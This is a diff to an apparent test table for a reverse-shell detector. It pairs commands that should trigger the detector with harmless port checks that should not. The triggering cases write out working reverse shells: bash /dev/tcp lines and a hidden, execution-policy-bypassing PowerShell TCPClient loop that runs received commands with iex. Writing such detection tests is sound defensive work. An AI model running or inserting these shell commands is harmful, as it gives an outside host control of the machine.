@@ -10,6 +10,16 @@ const image = 'registry.example.com/shop/web:2';
 indicatorTable(commandReverseShell, {
   fires: {
     'bash on its own network device': runs('bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1'),
+    'an interactive shell whose redirection is mistyped': runs('bash', '-c', 'bash -i >& /dev/tcp/10.1.2.3/443 0&1'),
+    'a client of PowerShell that runs each line': runs(
+      'pwsh',
+      '-w',
+      'hidden',
+      '-ep',
+      'bypass',
+      '-Command',
+      "$c=New-Object Net.Sockets.TCPClient('203.0.113.7',443);$s=$c.GetStream();while(($i=$s.Read($b,0,512)) -ne 0){$r=iex ([Text.Encoding]::ASCII.GetString($b,0,$i)); $o=iex $r}",
+    ),
     'the same behind a dash and with other shells': runs(
       '/bin/sh',
       '-c',
@@ -78,6 +88,12 @@ indicatorTable(commandReverseShell, {
   staysSilent: {
     'a program of Go that asks whether somebody listens': script(
       `printf 'package main\nimport "net"\nfunc main(){_,e:=net.Dial("tcp","db:5432");if e!=nil{panic(e)}}' > /tmp/m.go; go run /tmp/m.go`,
+    ),
+    'an interactive shell that runs a script into a file': script('bash -i /scripts/a.sh >& /var/log/a.log 0&1'),
+    'PowerShell that asks whether somebody listens': runs(
+      'pwsh',
+      '-c',
+      "$c=New-Object Net.Sockets.TcpClient('db',5432);if($c.Connected){Write-Output 'up'}",
     ),
     'a port test with the network device': script("timeout 1 bash -c '</dev/tcp/db.example.com/5432' && echo up"),
     'a port test that writes': script('(echo > /dev/tcp/db/5432) >/dev/null 2>&1'),
